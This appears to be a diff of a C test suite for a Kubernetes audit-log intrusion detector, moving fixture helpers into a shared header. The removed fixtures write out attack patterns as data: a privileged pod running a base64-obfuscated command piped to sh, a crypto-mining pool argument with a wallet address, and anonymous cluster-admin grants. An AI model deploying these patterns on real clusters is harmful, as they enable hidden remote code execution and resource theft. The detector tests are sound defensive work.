@@ -3,304 +3,12 @@
 #include <stddef.h>
 #include <stdint.h>
 #include <stdio.h>
-#include <stdlib.h>
+#include <string.h>
 #include <cmocka.h>
 
-#include "detect/record_detector.h"
-#include "model/finding_json.h"
+#include "detect/cluster/audit_story.h"
 
 extern const struct record_detector cluster_detector;
-
-/* Monero's general fund: an address with a right checksum. */
-#define WALLET                                                                                     \
-	"888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoog" \
-	"D"                                                                                        \
-	"avup3H"
-
-enum { HOUR = 3600, DAY = 86400, STEPS_MAX = 24, ACTS_MAX = 512, NODES = 512, TOLD_MAX = 32 };
-
-/* One act, or `times` of them with %d in the name counted up, `every` seconds. JSON with '. */
-struct step {
-	int at;
-	const char *user, *from, *verb, *what; /* "pods", "pods/exec" */
-	const char *namespace, *name, *request, *response, *uri, *why, *as;
-	int times, every;
-	enum record_outcome outcome; /* UNKNOWN: done */
-	const char *cluster, *agent;
-};
-
-struct story {
-	const char *name;
-	struct step steps[STEPS_MAX];
-	const char *told; /* "verdict doing" sorted, with "; " between */
-};
-
-/* -- acts -- */
-
-struct act_text {
-	char name[128], request[4096], response[4096], whole[1024], id[64];
-	struct json_node nodes[3][NODES];
-	struct json docs[3];
-	struct record record;
-	struct str group;
-};
-
-static struct json_value read_into(struct act_text *t, int which, char *text, const char *json,
-				   size_t cap)
-{
-	if (!json)
-		return (struct json_value){NULL, UINT32_MAX};
-	snprintf(text, cap, "%s", json);
-	for (char *c = text; *c; c++)
-		*c = *c == '\'' ? '"' : *c;
-	t->docs[which] = (struct json){.nodes = t->nodes[which], .cap = NODES};
-	assert_true(json_read(&t->docs[which], str_from(text)) > 0);
-	return json_root(&t->docs[which]);
-}
-
-static void set_identity(const struct step *step, struct act_text *t)
-{
-	struct record_identity *who = &t->record.act.identity;
-
-	who->name = str_from(step->user);
-	who->impersonated = str_from(step->as);
-	if (strcmp(step->user, "system:anonymous") == 0) {
-		who->kind = IDENTITY_ANONYMOUS;
-		t->group = STR("system:unauthenticated");
-		who->groups = &t->group;
-		who->group_count = 1;
-	}
-}
-
-static void make(const struct step *step, int number, int serial, struct act_text *t)
-{
-	struct record_act *act = &t->record.act;
-	char why[900];
-
-	t->record =
-		(struct record){.kind = RECORD_KUBE_AUDIT,
-				.time = instant_at(1000 * DAY + step->at + number * step->every, 0),
-				.source = STR("audit.log"),
-				.offset = (uint64_t)serial * 1000};
-	snprintf(t->id, sizeof(t->id), "id-%d/ResponseComplete", serial);
-	t->record.id = str_from(t->id);
-	set_identity(step, t);
-	act->provider = PROVIDER_KUBE;
-	act->account = str_from(step->cluster ? step->cluster : "c1");
-	act->action = str_from(step->verb);
-	(void)str_cut(str_from(step->what), '/', &act->resource, &act->subresource);
-	act->namespace = str_from(step->namespace);
-	if (step->name)
-		snprintf(t->name, sizeof(t->name), step->name, number);
-	act->name = step->name ? str_from(t->name) : (struct str){0};
-	act->uri = str_from(step->uri);
-	act->source = str_from(step->from);
-	act->user_agent = str_from(step->agent);
-	act->has_address = address_parse(act->source, &act->address);
-	act->outcome = step->outcome == OUTCOME_UNKNOWN ? OUTCOME_DONE : step->outcome;
-	act->decision = act->outcome == OUTCOME_DENIED ? STR("forbid") : STR("allow");
-	act->request = read_into(t, 0, t->request, step->request, sizeof(t->request));
-	act->response = read_into(t, 1, t->response, step->response, sizeof(t->response));
-	snprintf(why, sizeof(why), "{'annotations':{'authorization.k8s.io/reason':'%s'}}",
-		 step->why ? step->why : "");
-	t->record.whole = read_into(t, 2, t->whole, why, sizeof(t->whole));
-}
-
-/* -- findings -- */
-
-struct told {
-	struct record_teller teller;
-	char *lines[TOLD_MAX];
-	char brief[TOLD_MAX][128];
-	int count;
-};
-
-static void take(struct record_teller *teller, struct finding *finding)
-{
-	struct told *told = (struct told *)teller;
-	struct buf line = {0};
-	struct str doing = facts_text(&finding->subject.keys, STR("doing"));
-
-	assert_true(told->count < TOLD_MAX);
-	assert_true(finding->reason_count > 0 && finding->title.len > 0);
-	assert_true(finding->evidence_count > 0 && finding->technique_count > 0);
-	for (size_t i = 1; i < finding->evidence_count; i++)
-		assert_true(finding->evidence[i - 1].time.ns <= finding->evidence[i].time.ns);
-	assert_true(finding->first_seen.ns <= finding->last_seen.ns);
-	finding_to_json(finding, &line);
-	buf_add_byte(&line, '\0');
-	assert_false(line.failed);
-	snprintf(told->brief[told->count], 128, "%s %.*s", verdict_name(finding->verdict),
-		 STR_ARG(doing));
-	told->lines[told->count++] = line.at;
-}
-
-static int compare_texts(const void *a, const void *b)
-{
-	return strcmp(*(char *const *)a, *(char *const *)b);
-}
-
-/* All lines, sorted, in one. */
-static struct buf report(void *state, struct told *told)
-{
-	struct buf all = {0};
-	struct arena scratch;
-
-	*told = (struct told){.teller = {take}};
-	assert_int_equal(arena_init(&scratch, 256 * 1024), 0);
-	cluster_detector.report(state, instant_at(2000 * DAY, 0), &scratch, &told->teller);
-	arena_fini(&scratch);
-	qsort(told->lines, (size_t)told->count, sizeof(told->lines[0]), compare_texts);
-	for (int i = 0; i < told->count; i++) {
-		buf_add_text(&all, told->lines[i]);
-		buf_add_byte(&all, '\n');
-		free(told->lines[i]);
-	}
-	return all;
-}
-
-static struct str brief(struct told *told, char *out, size_t cap)
-{
-	char *at[TOLD_MAX];
-	size_t len = 0;
-
-	for (int i = 0; i < told->count; i++)
-		at[i] = told->brief[i];
-	qsort(at, (size_t)told->count, sizeof(at[0]), compare_texts);
-	out[0] = '\0';
-	for (int i = 0; i < told->count; i++)
-		len += (size_t)snprintf(out + len, cap - len, "%s%s", i ? "; " : "", at[i]);
-	return str_from(out);
-}
-
-/* -- running a story -- */
-
-enum way { IN_ORDER, BACKWARDS, SHUFFLED, TWICE, WAYS };
-
-struct list {
-	const struct step *step[ACTS_MAX];
-	int number[ACTS_MAX], serial[ACTS_MAX];
-	int count;
-};
-
-static void unfold(const struct story *story, struct list *list)
-{
-	list->count = 0;
-	for (const struct step *s = story->steps; s->user; s++)
-		for (int i = 0; i < (s->times ? s->times : 1); i++) {
-			assert_true(list->count < ACTS_MAX);
-			list->step[list->count] = s;
-			list->number[list->count] = i;
-			list->serial[list->count] = list->count;
-			list->count++;
-		}
-}
-
-static void swap(struct list *list, int a, int b)
-{
-	const struct step *step = list->step[a];
-	int number = list->number[a], serial = list->serial[a];
-
-	list->step[a] = list->step[b];
-	list->number[a] = list->number[b];
-	list->serial[a] = list->serial[b];
-	list->step[b] = step;
-	list->number[b] = number;
-	list->serial[b] = serial;
-}
-
-static void arrange(struct list *list, enum way way, uint32_t seed)
-{
-	for (int i = 0; way == BACKWARDS && i < list->count / 2; i++)
-		swap(list, i, list->count - 1 - i);
-	for (int i = list->count - 1; way >= SHUFFLED && i > 0; i--) {
-		seed = seed * 1664525 + 1013904223;
-		swap(list, i, (int)((seed >> 8) % (uint32_t)(i + 1)));
-	}
-}
-
-static void observe_all(void *state, const struct list *list)
-{
-	static struct act_text text;
-
-	for (int i = 0; i < list->count; i++) {
-		make(list->step[i], list->number[i], list->serial[i], &text);
-		cluster_detector.observe(state, &text.record);
-	}
-}
-
-static struct buf run(const struct story *story, enum way way, uint32_t seed, struct told *told)
-{
-	const struct record_settings settings = {.seed = 7 + seed, .capacity = 4096};
-	static struct list list;
-	void *state = NULL;
-
-	unfold(story, &list);
-	arrange(&list, way, seed);
-	assert_int_equal(cluster_detector.create(&settings, &state), 0);
-	observe_all(state, &list);
-	if (way == TWICE)
-		observe_all(state, &list);
-	struct buf all = report(state, told);
-	cluster_detector.destroy(state);
-	return all;
-}
-
-static void run_stories(const struct story *stories, size_t count)
-{
-	static struct told told;
-	char text[1024];
-
-	for (size_t i = 0; i < count; i++) {
-		CLEANUP(buf_fini) struct buf first = run(&stories[i], IN_ORDER, 0, &told);
-		struct str got = brief(&told, text, sizeof(text));
-		if (!str_equal(got, str_from(stories[i].told)))
-			fail_msg("%s: told '%s' instead of '%s'\n%.*s", stories[i].name, text,
-				 stories[i].told, STR_ARG(buf_view(&first)));
-		for (uint32_t seed = 0; seed < 6; seed++) {
-			enum way way = seed == 0 ? BACKWARDS : seed % 2 ? SHUFFLED : TWICE;
-			CLEANUP(buf_fini) struct buf again = run(&stories[i], way, seed, &told);
-			if (!str_equal(buf_view(&first), buf_view(&again)))
-				fail_msg("%s: another order, another finding:\n%.*s\n%.*s",
-					 stories[i].name, STR_ARG(buf_view(&first)),
-					 STR_ARG(buf_view(&again)));
-		}
-	}
-}
-
-/* -- specs -- */
-
-#define POD(spec)	     "{'kind':'Pod','spec':{" spec "}}"
-#define TEMPLATE(kind, spec) "{'kind':'" kind "','spec':{'template':{'spec':{" spec "}}}}"
-#define CRON(spec) \
-	"{'kind':'CronJob','spec':{'jobTemplate':{'spec':{'template':{'spec':{" spec "}}}}}}"
-#define NOTHING_SAID "'containers':[{'image':'registry.example.net/web:1'}]"
-#define HIDDEN                                                                                   \
-	"'tolerations':[{'operator':'Exists'}],'hostPID':true,'containers':[{'image':"           \
-	"'registry.example.net/node-agent:2','securityContext':{'privileged':true},'resources':" \
-	"{'limits':{'cpu':'500m'}},'command':['/bin/sh','-c','echo "                             \
-	"L3Vzci9sb2NhbC9iaW4vYWdlbnQgLS1"                                                        \
-	"1cHN0cmVhbSBlZGdlLmV4YW1wbGUtY2RuLm5ldDo4NDQz | base64 -d | sh']}]"
-#define AGENT(image)                                                                              \
-	"'tolerations':[{'operator':'Exists'}],'hostNetwork':true,'hostPID':true,'"               \
-	"priorityClassName'"                                                                      \
-	":'system-node-critical','volumes':[{'hostPath':{'path':'/proc'}},{'hostPath':{'path':'/" \
-	"'}}"                                                                                     \
-	"],'initContainers':[{'image':'" image                                                    \
-	"','command':['sh','-c','mount | grep bpf || mount bpf"                                   \
-	" /sys/fs/bpf -t bpf']}],'containers':[{'image':'" image                                  \
-	"','securityContext':{'privileged'"                                                       \
-	":true},'resources':{'limits':{'cpu':'200m'}},'args':['--config','/etc/agent.yaml']}]"
-#define GRANT(to)                                                                              \
-	"{'roleRef':{'kind':'ClusterRole','name':'cluster-admin'},'subjects':[{'kind':'User'," \
-	"'name':'" to "'}]}"
-
-#define NOBODY	"system:anonymous"
-#define CONSOLE "system:serviceaccount:kubernetes-dashboard:kubernetes-dashboard"
-#define WEB	"system:serviceaccount:shop:web"
-#define ALL_OF(who)                                                                              \
-	"RBAC: allowed by ClusterRoleBinding \\\"open\\\" of ClusterRole \\\"cluster-admin\\\" " \
-	"to " who
 
 static const struct story attacks[] = {
 	{"anybody looks around, reads secrets, mines",
@@ -477,200 +185,9 @@ static const struct story attacks[] = {
 	 "exposure open to anybody; exposure open to anybody"},
 };
 
-#define SYSTEM(account) "system:serviceaccount:" account
-#define ADMIN		"kubernetes-admin"
-
-/* What every cluster has: silent, or a signal. */
-static const struct story innocents[] = {
-	{"kubeadm makes a cluster",
-	 {{0, ADMIN, "192.0.2.4", "create", "configmaps", "kube-public", "cluster-info"},
-	  {0, ADMIN, "192.0.2.4", "create", "rolebindings", "kube-public",
-	   "kubeadm:bootstrap-signer-clusterinfo",
-	   "{'roleRef':{'name':'kubeadm:bootstrap-signer-clusterinfo'},'subjects':[{'kind':'User',"
-	   "'name':'system:anonymous'}]}"},
-	  {1, ADMIN, "192.0.2.4", "create", "daemonsets", "kube-system", "kube-proxy",
-	   TEMPLATE("DaemonSet", AGENT("registry.k8s.io/kube-proxy:v1.32"))},
-	  {2, ADMIN, "192.0.2.4", "create", "deployments", "kube-system", "coredns",
-	   TEMPLATE("Deployment", NOTHING_SAID)},
-	  {3, "system:apiserver", "127.0.0.1", "create", "clusterrolebindings", NULL,
-	   "system:public-info-viewer", GRANT("system:unauthenticated")}},
-	 "signal workload"},
-	{"a network plugin is put into kube-system by an administrator",
-	 {{0, ADMIN, "192.0.2.4", "create", "clusterrolebindings", NULL, "cilium",
-	   "{'roleRef':{'name':'cilium'},'subjects':[{'kind':'ServiceAccount','name':'cilium'}]}"},
-	  {1, ADMIN, "192.0.2.4", "create", "daemonsets", "kube-system", "cilium",
-	   TEMPLATE("DaemonSet", AGENT("quay.io/cilium/cilium:v1.16"))},
-	  {2, "system:serviceaccount:kube-system:daemon-set-controller", "192.0.2.4", "create",
-	   "pods", "kube-system", "cilium-%d", POD(AGENT("quay.io/cilium/cilium:v1.16")),
-	   .times = 9}},
-	 "signal workload"},
-	{"node-exporter",
-	 {{0, ADMIN, "192.0.2.4", "create", "daemonsets", "monitoring", "node-exporter",
-	   TEMPLATE("DaemonSet",
-		    "'hostNetwork':true,'hostPID':true,'volumes':[{'hostPath':{'path':'/'}"
-		    "}],'containers':[{'image':'quay.io/prometheus/node-exporter:v1.8',"
-		    "'args':['--path.rootfs=/host','--web.listen-address=[$(IP)]:9100'],"
-		    "'resources':{'limits':{'cpu':'250m'}}}]")}},
-	 ""},
-	{"falco, by helm, which asks what it may do and keeps its releases in secrets",
-	 {{0, "deployer", "198.51.100.4", "create", "selfsubjectaccessreviews", .times = 3},
-	  {0, "deployer", "198.51.100.4", "list", "secrets", "falco",
-	   .uri = "/api/v1/namespaces/falco/secrets?labelSelector=name%3Dfalco%2Cowner%3Dhelm"},
-	  {0, "deployer", "198.51.100.4", "get", "secrets", "falco", "sh.helm.release.v1.falco.v%d",
-	   .times = 30},
-	  {2, "deployer", "198.51.100.4", "create", "daemonsets", "falco", "falco",
-	   TEMPLATE("DaemonSet", AGENT("docker.io/falcosecurity/falco:0.39"))}},
-	 ""},
-	{"tetragon in kube-system, by flux, which watches what it works with",
-	 {{0, SYSTEM("flux-system:kustomize-controller"), "10.0.0.7", "watch", "kustomizations"},
-	  {0, SYSTEM("flux-system:kustomize-controller"), "10.0.0.7", "watch", "secrets"},
-	  {0, SYSTEM("flux-system:kustomize-controller"), "10.0.0.7", "update", "leases"},
-	  {1, SYSTEM("flux-system:kustomize-controller"), "10.0.0.7", "get", "secrets", "apps",
-	   "k-%d", .times = 40},
-	  {2, SYSTEM("flux-system:kustomize-controller"), "10.0.0.7", "patch", "daemonsets",
-	   "kube-system", "tetragon",
-	   TEMPLATE("DaemonSet", AGENT("quay.io/cilium/tetragon:v1.2"))}},
-	 "signal workload"},
-	{"the same by a pipeline's account in one run, which watches nothing",
-	 {{0, SYSTEM("gitlab:runner"), "10.0.0.7", "patch", "daemonsets", "kube-system", "tetragon",
-	   TEMPLATE("DaemonSet", AGENT("quay.io/cilium/tetragon:v1.2"))}},
-	 "signal workload"},
-	{"operators that read many secrets: external-secrets, cert-manager, argocd, trivy",
-	 {{0, SYSTEM("es:external-secrets"), "10.0.0.4", "watch", "secrets"},
-	  {0, SYSTEM("es:external-secrets"), "10.0.0.4", "watch", "externalsecrets"},
-	  {0, SYSTEM("es:external-secrets"), "10.0.0.4", "get", "secrets", "ns", "e-%d",
-	   .times = 90},
-	  {0, SYSTEM("cm:cert-manager"), "10.0.0.5", "update", "leases"},
-	  {0, SYSTEM("cm:cert-manager"), "10.0.0.5", "list", "secrets"},
-	  {0, SYSTEM("argocd:argocd-application-controller"), "10.0.0.6", "list", "secrets"},
-	  {0, SYSTEM("argocd:argocd-application-controller"), "10.0.0.6", "watch", "secrets"},
-	  {0, SYSTEM("argocd:argocd-application-controller"), "10.0.0.6", "watch", "pods"},
-	  {0, SYSTEM("trivy:trivy-operator"), "10.0.0.8", "list", "secrets"},
-	  {0, SYSTEM("trivy:trivy-operator"), "10.0.0.8", "watch", "secrets"},
-	  {0, SYSTEM("trivy:trivy-operator"), "10.0.0.8", "watch", "jobs"}},
-	 ""},
-	{"metrics of secrets, listed once",
-	 {{0, SYSTEM("kube-system:kube-state-metrics"), "10.0.0.8", "list", "secrets"}},
-	 "signal secrets"},
-	{"a backup that reads all secrets every night, and watches nothing",
-	 {{0, SYSTEM("velero:backup"), "10.0.0.4", "get", "secrets", "ns", "e-%d", .times = 12},
-	  {DAY, SYSTEM("velero:backup"), "10.0.0.4", "get", "secrets", "ns", "e-%d", .times = 12},
-	  {2 * DAY, SYSTEM("velero:backup"), "10.0.0.4", "get", "secrets", "ns", "e-%d",
-	   .times = 12}},
-	 ""},
-	{"kubelets read secrets and make tokens for their pods",
-	 {{0, "system:node:n1", "10.0.0.2", "get", "secrets", "ns", "e-%d", .times = 60},
-	  {0, "system:node:n1", "10.0.0.2", "create", "serviceaccounts/token", "ns", "a-%d",
-	   .times = 30}},
-	 ""},
-	{"a runner of GitHub's in a pod with rights, and jobs that install things",
-	 {{0, SYSTEM("arc:controller"), "10.0.0.4", "create", "pods", "arc-runners", "runner-%d",
-	   POD("'containers':[{'image':'ghcr.io/actions/actions-runner:2','command':['/opt/runner/"
-	       "run"
-	       ".sh']},{'image':'docker:dind','securityContext':{'privileged':true}}]"),
-	   .times = 12},
-	  {9, SYSTEM("ci:builder"), "10.0.0.5", "create", "jobs", "ci", "build-%d",
-	   TEMPLATE("Job",
-		    "'containers':[{'image':'ubuntu:24.04','command':['bash','-c','curl -fsSL "
-		    "https://sh.rustup.rs | sh -s -- -y && cargo build']}]"),
-	   .times = 12}},
-	 "signal workload"},
-	{"people look for faults",
-	 {{0, "dev", "198.51.100.7", "create", "pods/exec", "shop", "web-1",
-	   .uri = "/api/v1/namespaces/shop/pods/web-1/exec?command=sh&stdin=true&tty=true"},
-	  {1, "dev", "198.51.100.7", "create", "pods/exec", "shop", "web-1",
-	   .uri = "/api/v1/namespaces/shop/pods/web-1/exec?command=env"},
-	  {2, "dev", "198.51.100.7", "create", "pods/portforward", "shop", "db-1"},
-	  {3, "dev", "198.51.100.7", "get", "secrets", "shop", "s-%d", .times = 3},
-	  {4, "dev", "198.51.100.7", "list", "nodes", .outcome = OUTCOME_DENIED},
-	  {4, "dev", "198.51.100.7", "list", "secrets", .outcome = OUTCOME_DENIED},
-	  {4, "dev", "198.51.100.7", "list", "roles", .outcome = OUTCOME_DENIED},
-	  {4, "dev", "198.51.100.7", "list", "crds", .outcome = OUTCOME_DENIED},
-	  {9, "dev", "198.51.100.7", "create", "deployments", "shop", "web",
-	   TEMPLATE("Deployment", NOTHING_SAID)}},
-	 ""},
-	{"a debug container",
-	 {{0, "dev", "198.51.100.7", "patch", "pods/ephemeralcontainers", "shop", "web-1",
-	   POD("'ephemeralContainers':[{'image':'busybox','command':['sh']}]")}},
-	 "signal debug container"},
-	{"an administrator installs helm charts with all rights for one of them",
-	 {{0, ADMIN, "192.0.2.4", "create", "clusterrolebindings", NULL, "flux", GRANT("flux")},
-	  {1, ADMIN, "192.0.2.4", "create", "deployments", "flux-system", "c-%d",
-	   TEMPLATE("Deployment", NOTHING_SAID), .times = 4}},
-	 "signal rights"},
-	{"the dashboard keeps its keys and shows what is there",
-	 {{0, CONSOLE, "10.0.0.9", "get", "secrets", "kubernetes-dashboard",
-	   "kubernetes-dashboard-key-holder"},
-	  {1, CONSOLE, "10.0.0.9", "update", "secrets", "kubernetes-dashboard",
-	   "kubernetes-dashboard-key-holder"},
-	  {2, CONSOLE, "10.0.0.9", "get", "configmaps", "kubernetes-dashboard",
-	   "kubernetes-dashboard-settings"},
-	  {3, CONSOLE, "10.0.0.9", "get", "services/proxy", "kubernetes-dashboard",
-	   "dashboard-metrics-scraper"},
-	  {4, CONSOLE, "10.0.0.9", "list", "namespaces"}},
-	 ""},
-	{"prometheus reads metrics through the nodes",
-	 {{0, SYSTEM("monitoring:prometheus"), "10.0.0.4", "get", "nodes/proxy", NULL, "n-%d",
-	   .uri = "/api/v1/nodes/n1/proxy/metrics/cadvisor", .times = 60}},
-	 ""},
-	{"a shop that takes donations, a pool operator's exporter",
-	 {{0, "dev", "198.51.100.7", "create", "deployments", "shop", "web",
-	   TEMPLATE("Deployment",
-		    "'containers':[{'image':'shop','env':[{'name':'DONATE','value':'" WALLET
-		    "'}]}]")},
-	  {1, "dev", "198.51.100.7", "create", "deployments", "shop", "exporter",
-	   TEMPLATE("Deployment", "'containers':[{'image':'example/xmrig-exporter:1'}]")}},
-	 "signal workload"},
-	{"a console for the inside",
-	 {{0, "admin", "198.51.100.7", "create", "services", "d", "dashboard",
-	   "{'metadata':{'annotations':{'service.beta.kubernetes.io/"
-	   "aws-load-balancer-internal':'true'}"
-	   "},'spec':{'type':'LoadBalancer','selector':{'app':'dashboard'}}}"},
-	  {1, "admin", "198.51.100.7", "create", "services", "shop", "web",
-	   "{'spec':{'type':'LoadBalancer','selector':{'app':'web'}}}"}},
-	 "signal console to the outside"},
-};
-
-/* What README.md says is not seen, tried: whoever makes one of these seen may strike it out there.
- */
-static const struct story escapes[] = {
-	{"an image whose entry point mines, and nothing else is said, by a pipeline's account",
-	 {{0, SYSTEM("gitlab:runner"), "10.0.0.7", "create", "deployments", "shop", "cache",
-	   TEMPLATE("Deployment", "'containers':[{'image':'registry.example.net/cache:9'}]")}},
-	 ""},
-	{"few secrets, slowly",
-	 {{0, WEB, "10.0.0.5", "get", "secrets", "shop", "s-%d", .times = 20, .every = 660}},
-	 ""},
-	{"two idle watches make a controller of anybody",
-	 {{0, WEB, "10.0.0.5", "watch", "pods"},
-	  {1, WEB, "10.0.0.5", "watch", "services"},
-	  {2, WEB, "10.0.0.5", "get", "secrets", "shop", "s-%d", .times = 50}},
-	 ""},
-	{"another address in each request",
-	 {{0, WEB, "10.0.0.1", "get", "secrets", "shop", "a"},
-	  {1, WEB, "10.0.0.2", "get", "secrets", "shop", "b"},
-	  {2, WEB, "10.0.0.3", "get", "secrets", "shop", "c"},
-	  {3, WEB, "10.0.0.4", "get", "secrets", "shop", "d"},
-	  {4, WEB, "10.0.0.5", "get", "secrets", "shop", "e"}},
-	 ""},
-};
-
-static void escapes_are_as_told(void **state)
-{
-	run_stories(escapes, sizeof(escapes) / sizeof(*escapes));
-}
-
 static void attacks_are_told(void **state)
 {
-	run_stories(attacks, sizeof(attacks) / sizeof(*attacks));
-}
-
-static void innocents_are_not_accused(void **state)
-{
-	for (size_t i = 0; i < sizeof(innocents) / sizeof(*innocents); i++)
-		assert_true(innocents[i].told[0] == '\0' ||
-			    strncmp(innocents[i].told, "signal", 6) == 0);
-	run_stories(innocents, sizeof(innocents) / sizeof(*innocents));
+	stories_run(attacks, sizeof(attacks) / sizeof(*attacks));
 }
 
 /* -- what is in a finding -- */
@@ -687,7 +204,7 @@ static const struct story *attack(const char *name)
 static void has_all(const struct story *story, const char *const *texts)
 {
 	static struct told told;
-	CLEANUP(buf_fini) struct buf all = run(story, IN_ORDER, 0, &told);
+	CLEANUP(buf_fini) struct buf all = story_run(story, IN_ORDER, 0, &told);
 
 	for (; *texts; texts++)
 		if (str_find(buf_view(&all), str_from(*texts)) < 0)
@@ -751,7 +268,7 @@ static void commands_are_quoted_for_a_shell(void **state)
 					 "'stratum+tcp://p.example:1','--donate-level=1']}]")}},
 		""};
 	static struct told told;
-	CLEANUP(buf_fini) struct buf all = run(&story, IN_ORDER, 0, &told);
+	CLEANUP(buf_fini) struct buf all = story_run(&story, IN_ORDER, 0, &told);
 	struct str text = buf_view(&all);
 
 	assert_int_equal(told.count, 1);
@@ -777,13 +294,13 @@ static void stages_are_one_request_and_ids_may_be_forged(void **state)
 
 	assert_int_equal(cluster_detector.create(&settings, &memory), 0);
 	for (int i = 0; i < 3; i++) {
-		make(&step, i, 1, &text);
+		story_make_act(&step, i, 1, &text);
 		text.record.id = STR("same/ResponseStarted");
 		cluster_detector.observe(memory, &text.record);
 		text.record.id = STR("same/ResponseComplete");
 		cluster_detector.observe(memory, &text.record);
 	}
-	CLEANUP(buf_fini) struct buf all = report(memory, &told);
+	CLEANUP(buf_fini) struct buf all = story_report(memory, &told);
 	cluster_detector.destroy(memory);
 	assert_true(str_find(buf_view(&all), STR("reached into pods or nodes, 3 times")) >= 0);
 }
@@ -806,7 +323,7 @@ static void flood(void *state, uint32_t from, uint32_t to)
 		step.name = i % 4 == 2 ? NULL : name;
 		step.at = (int)(i / 4);
 		step.outcome = i % 4 == 1 ? OUTCOME_DENIED : OUTCOME_DONE;
-		make(&step, 0, (int)i, &text);
+		story_make_act(&step, 0, (int)i, &text);
 		cluster_detector.observe(state, &text.record);
 	}
 }
@@ -821,14 +338,14 @@ static void a_million_strangers_push_nothing_out(void **state)
 	void *memory = NULL;
 	char text[1024];
 
-	unfold(story, &list);
+	story_unfold(story, &list);
 	assert_int_equal(cluster_detector.create(&settings, &memory), 0);
 	flood(memory, 0, JUNK / 2);
-	observe_all(memory, &list);
+	story_observe_all(memory, &list);
 	flood(memory, JUNK / 2, JUNK);
-	CLEANUP(buf_fini) struct buf all = report(memory, &told);
+	CLEANUP(buf_fini) struct buf all = story_report(memory, &told);
 	cluster_detector.destroy(memory);
-	brief(&told, text, sizeof(text));
+	story_brief(&told, text, sizeof(text));
 	if (!strstr(text, "suspect hidden workload") || !strstr(text, "access secrets"))
 		fail_msg("told: %s", text);
 }
@@ -837,8 +354,6 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(attacks_are_told),
-		cmocka_unit_test(innocents_are_not_accused),
-		cmocka_unit_test(escapes_are_as_told),
 		cmocka_unit_test(what_others_join_on_is_there),
 		cmocka_unit_test(commands_are_quoted_for_a_shell),
 		cmocka_unit_test(stages_are_one_request_and_ids_may_be_forged),
